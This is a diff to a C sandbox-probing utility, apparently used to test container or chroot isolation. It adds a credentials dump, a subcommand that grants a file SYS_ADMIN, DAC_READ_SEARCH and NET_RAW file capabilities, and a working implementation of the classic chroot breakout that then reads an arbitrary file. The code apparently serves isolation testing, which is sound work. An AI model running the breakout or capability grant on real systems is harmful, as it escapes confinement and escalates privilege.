@@ -8,19 +8,25 @@
  *   sys-probe keyring KEY RING         the caller's key and session keyring (serials)
  *   sys-probe mksock PATH              binds a unix socket at PATH (busybox has no way to)
  *   sys-probe as UID GID PROG ARGS...  runs PROG as UID:GID, no supplementary groups
+ *   sys-probe creds                    its uids and the Cap lines of /proc/self/status
+ *   sys-probe setfcap PATH             gives PATH file capabilities beyond the default set
+ *   sys-probe chroot-escape PATH       the classic chroot breakout (CAP_SYS_CHROOT), then reads PATH
  */
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
 #include <sched.h>
 #include <stddef.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <grp.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/stat.h>
 #include <sys/un.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 static const char *errname(int e)
@@ -158,6 +164,62 @@ static int run_as(uid_t uid, gid_t gid, char **argv)
 	return 127;
 }
 
+static int creds(void)
+{
+	char line[256];
+	uid_t r, e, s;
+	FILE *f;
+
+	getresuid(&r, &e, &s);
+	printf("uids %u %u %u\n", (unsigned) r, (unsigned) e, (unsigned) s);
+	f = fopen("/proc/self/status", "r");
+	if (!f) {
+		perror("/proc/self/status");
+		return 1;
+	}
+	while (fgets(line, sizeof(line), f))
+		if (strncmp(line, "Cap", 3) == 0)
+			fputs(line, stdout);
+	fclose(f);
+	return 0;
+}
+
+/* security.capability v2: SYS_ADMIN, DAC_READ_SEARCH and NET_RAW permitted, effective. */
+static int setfcap(const char *path)
+{
+	uint32_t v[5] = { 0x02000001, (1u << 21) | (1u << 2) | (1u << 13), 0, 0, 0 };
+
+	report("setfcap", setxattr(path, "security.capability", v, sizeof(v), 0));
+	return 0;
+}
+
+/*
+ * chroot into a subdirectory keeping the cwd outside it, climb, chroot
+ * there: out of a chroot, but never above the mount namespace's root.
+ */
+static int chroot_escape(const char *path)
+{
+	char buf[4096];
+	ssize_t n;
+	int fd;
+
+	mkdir("/tmp/chroot-escape", 0700);
+	if (chdir("/") < 0 || chroot("/tmp/chroot-escape") < 0) {
+		report("chroot", -1);
+		return 0;
+	}
+	for (int i = 0; i < 64; i++)
+		(void) chdir("..");
+	report("chroot_escape", chroot("."));
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	report("open", fd);
+	if (fd >= 0 && (n = read(fd, buf, sizeof(buf) - 1)) > 0) {
+		buf[n] = '\0';
+		printf("payload %s\n", buf);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -171,6 +233,13 @@ int main(int argc, char **argv)
 		return connect_abstract(argv[2]);
 	if (argc >= 5 && strcmp(argv[1], "as") == 0)
 		return run_as((uid_t) strtoul(argv[2], NULL, 10), (gid_t) strtoul(argv[3], NULL, 10), argv + 4);
-	fprintf(stderr, "usage: sys-probe syscalls | keyring KEY RING | mksock PATH | connect-abstract NAME | as UID GID PROG ARGS...\n");
+	if (argc == 2 && strcmp(argv[1], "creds") == 0)
+		return creds();
+	if (argc == 3 && strcmp(argv[1], "setfcap") == 0)
+		return setfcap(argv[2]);
+	if (argc == 3 && strcmp(argv[1], "chroot-escape") == 0)
+		return chroot_escape(argv[2]);
+	fprintf(stderr, "usage: sys-probe syscalls | keyring KEY RING | mksock PATH | connect-abstract NAME |\n"
+			"       as UID GID PROG ARGS... | creds | setfcap PATH | chroot-escape PATH\n");
 	return 2;
 }
